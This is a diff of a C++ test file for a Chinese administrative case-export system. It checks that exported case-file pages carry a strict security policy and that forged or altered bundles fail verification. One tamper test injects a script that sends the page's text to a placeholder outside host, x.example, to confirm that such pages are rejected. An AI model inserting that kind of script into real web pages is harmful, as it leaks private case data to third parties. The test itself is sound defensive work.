@@ -5,7 +5,9 @@
 
 #include <catch2/catch.hpp>
 
+#include <cstring>
 #include <filesystem>
+#include <functional>
 #include <fstream>
 #include <regex>
 #include <set>
@@ -59,7 +61,7 @@ struct ExportFixture {
                                         std::string files_dir = "", std::vector<std::string> trusted = {}) {
     const projectors::ExportRequest request{case_id, &supervisor, std::nullopt, std::move(reveal),
                                             std::move(files_dir), std::move(trusted), NowMs()};
-    return projectors::ExportCase(*log, dir(), projectors::ViewsPath(dir()), request);
+    return projectors::ExportCase(*log, dir(), request);
   }
   ExportReport Verify(const Bytes& bundle, std::optional<std::string> trusted = std::nullopt,
                       std::vector<Hash> consistency = {}) const {
@@ -178,7 +180,7 @@ TEST_CASE("a case whose id, names and 文号 are Chinese exports and verifies, i
   f.Admit(domain::ApproveExport(f.By(f.supervisor, case_id, 20), "信阳市浉河区人民法院", "行政诉讼举证", {}));
   const note::Signer supervisor{f.supervisor.certificate_no, f.supervisor.key};
   const projectors::ExportRequest request{case_id, &supervisor, std::nullopt, {}, "", {}, CaseFixture::Day(21)};
-  auto exported = projectors::ExportCase(f.t().log(), f.t().dir(), projectors::ViewsPath(f.t().dir()), request);
+  auto exported = projectors::ExportCase(f.t().log(), f.t().dir(), request);
   REQUIRE(exported.ok());
   const auto vkey = data_dir::LoadVerifier(f.t().dir());
   const ExportReport report = VerifyExport(exported->built.bundle, {*vkey, std::nullopt, {}});
@@ -189,6 +191,14 @@ TEST_CASE("a case whose id, names and 文号 are Chinese exports and verifies, i
   CHECK(parts.case_id == case_id);
   CHECK_THAT(parts.case_file_html, Catch::Contains(case_id));
   CHECK_THAT(parts.case_file_html, Catch::Contains(CaseFixture::DecisionNo(case_id)));
+  // The page runs nothing and loads nothing, by its own policy as well as by construction.
+  CHECK_THAT(parts.case_file_html,
+             Catch::Contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';"));
+  CHECK(parts.case_file_html.find("<script") == std::string::npos);
+  CHECK(parts.case_file_html.find("src=") == std::string::npos);
+  CHECK_THAT(parts.case_file_html, Catch::Contains("<td>作出决定</td>"));  // acts by their Chinese names
+  CHECK(Checked(report, "admission: every record"));
+  CHECK(Checked(report, "case file: the page"));
   CHECK_THAT(FormatExportReport(report), Catch::Contains("决定书 " + CaseFixture::DecisionNo(case_id)));
   // The records in the bundle are the log's, byte for byte.
   size_t i = 0;
@@ -236,14 +246,10 @@ TEST_CASE("a bundle built twice at the same checkpoint is the same bytes, also a
   auto exported = f.Export(case_id, {"party.name"}, f.WriteDocumentFiles(case_id, files));
   REQUIRE(exported.ok());
   auto rebuild = [&] {
-    auto views = projectors::ViewStore::Open(projectors::ViewsPath(f.dir()));
-    REQUIRE(views.ok());
-    auto file = projectors::ReadCaseFile(**views, f.log->reader(), case_id);
-    REQUIRE(file.ok());
     const uint64_t size = ParseCheckpointNoteUnverified(exported->checkpoint)->size;
     const projectors::CaseExportInput in{case_id, exported->checkpoint,
-                                         note::EncodeVerifier(f.vkey.name, f.vkey.public_key), kCourt,
-                                         {"party.name"}, &f.log->vault(), files.path(), {}, *file,
+                                         note::EncodeVerifier(f.vkey.name, f.vkey.public_key),
+                                         {"party.name"}, &f.log->vault(), files.path(), {},
                                          [&](std::string_view c) { return f.log->CaseHeadProofAt(c, size); }};
     auto built = projectors::BuildCaseExport(f.log->store(), f.log->reader(), in);
     REQUIRE(built.ok());
@@ -292,6 +298,8 @@ TEST_CASE("the exported case file opens in a browser and lists the documents of 
   // … is the case file view's, in the same order.
   auto views = projectors::ViewStore::Open(projectors::ViewsPath(f.dir()));
   REQUIRE(views.ok());
+  projectors::ProjectionRunner runner(f.log->reader(), **views, projectors::AllProjectors());
+  REQUIRE(runner.CatchUp().ok());
   auto file = projectors::ReadCaseFile(**views, f.log->reader(), case_id);
   REQUIRE(file.ok());
   std::vector<std::tuple<std::string, std::string, std::string, std::string>> listed;
@@ -388,6 +396,57 @@ TEST_CASE("a bundle with any part changed fails, naming the part") {
   SECTION("a document left out of the 卷内目录") {
     t.parts.documents.pop_back();
     ExpectFailure(t.Check(), "documents", "the records give");
+  }
+  SECTION("the case file page rewritten: another party, another 责任者, a script, an image, a forged page") {
+    const std::string page = t.parts.case_file_html;
+    const std::string responsible = t.parts.documents.front().responsible;
+    REQUIRE_FALSE(responsible.empty());
+    const size_t party_at = page.find("<th>当事人</th><td>");
+    REQUIRE(party_at != std::string::npos);
+    std::vector<std::pair<std::string, std::string>> forged = {
+        {"another party", std::string(page).insert(party_at + std::strlen("<th>当事人</th><td>"), "李四")},
+        {"another 责任者", std::regex_replace(page, std::regex(responsible), "赵六", std::regex_constants::format_first_only)},
+        {"a script", std::string(page).insert(page.find("</body>"), "<script>fetch('https://x.example/'+document.body.innerText)</script>")},
+        {"an outside image", std::string(page).insert(page.find("</body>"), "<img src=\"https://x.example/p.png\">")},
+        {"a whole forged page", "<!DOCTYPE html><html><body><h1>行政执法案卷</h1>" + t.case_id + "</body></html>"},
+        {"a byte cut", page.substr(0, page.size() - 1)},
+        {"the policy dropped", std::regex_replace(page, std::regex("<meta http-equiv=\"Content-Security-Policy\"[^>]*>\n"), "")},
+    };
+    for (const auto& [what, html] : forged) {
+      INFO(what);
+      REQUIRE(html != page);
+      t.parts.case_file_html = html;
+      ExpectFailure(t.Check(), "case_file_html", "not the one the records give");
+    }
+  }
+  SECTION("a 卷内目录 line changed in any field, or two lines swapped") {
+    REQUIRE(t.parts.documents.size() >= 2);
+    const std::vector<std::pair<std::string, std::function<void(bundle::Document&)>>> edits = {
+        {"题名", [](bundle::Document& d) { d.title = "行政处罚决定书（更正）"; }},
+        {"责任者", [](bundle::Document& d) { d.responsible = "赵六"; }},
+        {"日期", [](bundle::Document& d) { d.date = "2026-01-01"; }},
+        {"卷别", [](bundle::Document& d) { d.volume = d.volume == "正卷" ? "副卷" : "正卷"; }},
+        {"序号", [](bundle::Document& d) { d.seq += 1; }},
+        {"文号", [](bundle::Document& d) { d.doc_no += "补"; }},
+    };
+    const bundle::Parts original = t.parts;
+    for (const auto& [field, edit] : edits) {
+      INFO(field);
+      t.parts = original;
+      edit(t.parts.documents[1]);
+      ExpectFailure(t.Check(), "documents[1]", "is not what the records give");
+    }
+    t.parts = original;
+    std::swap(t.parts.documents[0], t.parts.documents[1]);
+    ExpectFailure(t.Check(), "documents[0]", "is not what the records give");
+  }
+  SECTION("bytes added at the end of the bundle, or its last byte cut") {
+    const Bytes bytes = bundle::Pack(t.parts);
+    Bytes longer = bytes;
+    longer.insert(longer.end(), {0, 0, 0, 0, 0, 0, 0, 0});
+    ExpectFailure(t.f.Verify(longer), "bundle", "8 bytes that no field accounts for");
+    const Bytes shorter(bytes.begin(), bytes.end() - 1);
+    ExpectFailure(t.f.Verify(shorter), "bundle", "");
   }
   SECTION("the checkpoint replaced by one signed by another key") {
     const note::Signer other{t.f.vkey.name, KeyPair::Generate()};
